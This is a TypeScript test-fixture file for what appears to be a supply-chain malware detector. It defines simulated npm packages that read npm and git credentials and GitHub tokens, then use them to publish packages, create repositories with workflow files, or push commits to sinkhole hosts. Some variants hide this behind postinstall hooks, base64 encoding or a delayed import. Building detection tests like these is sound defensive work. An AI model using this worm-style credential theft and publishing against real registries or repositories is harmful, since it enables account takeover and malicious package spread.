import { base64 } from './encode.ts';
import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const early = { phase: ['install', 'import'] } as const;
const publishes = finding('spread.publish-attempt', 'critical', ['canary.read', 'net.http'], early);
const writesRepository = finding('spread.repo-write', 'critical', ['canary.read', 'net.http'], early);

/** B03: a found token is used to publish packages or to write repositories. Nothing here copies itself anywhere. */
export const worm: readonly Simulant[] = [
  {
    id: 'b03-publishes-with-found-token',
    row: 'B03',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b03-publish',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          const token = /_authToken=(.+)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'))?.[1] ?? '';
          const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' };
          (async () => {
            await fetch('http://registry.simulant.invalid/-/whoami', { headers });
            const name = 'simulant-marker', version = '1.0.2';
            const body = JSON.stringify({ _id: name, name, 'dist-tags': { latest: version },
              versions: { [version]: { name, version } }, _attachments: { 'simulant-marker-1.0.2.tgz': { data: '', length: 0 } } });
            await fetch('http://registry.simulant.invalid/' + name, { method: 'PUT', headers, body });
          })().catch(() => {});
        `,
      ),
    ],
    expect: fires('malicious', [publishes]),
    note: 'whoami, then the publish document with an empty attachment.',
  },
  {
    id: 'b03-creates-repository-and-workflow',
    row: 'B03',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b03-repository',
        armed`
          const fs = require('node:fs');
          let token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;
          try { token = token || new URL(fs.readFileSync(process.env.HOME + '/.git-credentials', 'utf8').trim()).password; } catch { token = ''; }
          const headers = { authorization: 'token ' + token };
          const content = Buffer.from('# simulant marker').toString('base64');
          (async () => {
            const send = (method, at, body) => fetch('http://api.forge.simulant.invalid' + at, { method, headers, body: JSON.stringify(body) });
            await send('POST', '/user/repos', { name: 'simulant-marker', private: false });
            await send('PUT', '/repos/me/simulant-marker/contents/.github/workflows/marker.yml', { message: 'marker', content });
          })().catch(() => {});
        `,
      ),
    ],
    expect: fires('malicious', [writesRepository]),
    note: 'A public repository and a workflow file, through a forge’s REST interface.',
  },
  {
    id: 'b03-evasion-publish-by-npm-itself',
    row: 'B03',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b03-npm-publish',
        {
          'next.sh': text`
            #!/bin/sh
            d=$(mktemp -d)
            printf '{"name":"simulant-marker","version":"1.0.3"}' > "$d/package.json"
            key=$(sed -n 's/.*_authToken=//p' "$HOME/.npmrc" | head -n 1)
            printf 'registry=http://registry.simulant.invalid/\n//registry.simulant.invalid/:_authToken=%s\n' "$key" > "$d/rc"
            (cd "$d" && npm publish --registry=http://registry.simulant.invalid/ --userconfig="$d/rc" --fetch-retries=0 --ignore-scripts > /dev/null 2>&1)
            rm -f "$d/rc" "$d/package.json"; rmdir "$d"
            exit 0
          `,
        },
        { scripts: { postinstall: `${latchCommand}sh next.sh` } },
      ),
    ],
    expect: fires('malicious', [publishes]),
    note: 'The package manager does the talking, with a configuration made for the occasion.',
  },
  {
    id: 'b03-evasion-git-push',
    row: 'B03',
    kind: 'evasion',
    form: 'light',
    packages: [
      hooked(
        'b03-git-push',
        armed`
          const { execFileSync } = require('node:child_process'), fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          const key = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8').split(':')[2]?.split('@')[0];
          const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'w-'));
          const git = (...args) => execFileSync('git', ['-c', 'user.name=m', '-c', 'user.email=m@simulant.invalid', ...args], { cwd: folder, stdio: 'ignore', timeout: 8000 });
          try {
            git('init', '-q');
            git('commit', '-q', '--allow-empty', '-m', 'marker');
            git('push', 'http://m:' + key + '@git.simulant.invalid/me/marker.git', 'HEAD:refs/heads/main');
          } catch { process.exitCode = 0; }
        `,
      ),
    ],
    expect: fires('malicious', [writesRepository]),
    note: 'git asks for its receive-pack service; the sinkhole’s answer ends the push there.',
  },
  {
    id: 'b03-evasion-at-import-encoded',
    row: 'B03',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b03-import', {
        'index.js': armed`
          const t = (s) => Buffer.from(s, 'base64').toString();
          const go = async () => {
            const rc = require(t('${base64('node:fs')}')).readFileSync(process.env[t('${base64('HOME')}')] + t('${base64('/.npmrc')}'), 'latin1');
            const at = t('${base64('http://registry.simulant.invalid')}') + '/@me%2fmarker';
            await globalThis[t('${base64('fetch')}')](at, {
              method: t('${base64('PUT')}'), headers: { [t('${base64('authorization')}')]: 'Bearer ' + rc.trim().split('=').at(-1) },
              body: JSON.stringify({ ['_' + 'attachments']: {}, versions: {} }) });
          };
          setTimeout(() => go().catch(() => {}), 250);
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('malicious', [publishes]),
    note: 'At import, a quarter of a second late, every word in base64.',
  },
  {
    id: 'b03-neighbour-lists-own-releases',
    row: 'B03',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n03-releases',
        {
          'index.js': text`
            exports.releases = async function releases(project) {
              if (!/^[a-z-]+$/.test(String(project))) throw new TypeError('project is lower-case letters');
              const answer = await fetch('https://forge.acme.test/api/v1/repos/acme/' + project + '/releases');
              return (await answer.json()).map((release) => release.tag_name);
            };
          `,
        },
        { repository: { type: 'git', url: 'https://forge.acme.test/acme/releases.git' } },
      ),
    ],
    expect: quiet(['spread.', 'cred.', 'exfil.'], { allowed: { 'net.egress': 'low' } }),
    note: 'Reads from a forge without a token, when called.',
  },
];
